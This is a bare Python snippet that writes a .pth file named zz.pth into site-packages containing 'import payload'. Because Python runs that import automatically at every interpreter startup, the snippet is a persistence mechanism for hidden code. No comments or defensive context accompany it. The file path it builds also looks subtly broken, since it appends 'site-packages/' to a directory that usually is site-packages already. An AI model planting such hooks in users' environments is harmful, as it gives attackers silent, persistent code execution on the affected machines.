import site, os

target = os.path.join(site.getsitepackages()[0], "site-packages/zz.pth")
with open(target, "w") as file:
    file.write("import payload")
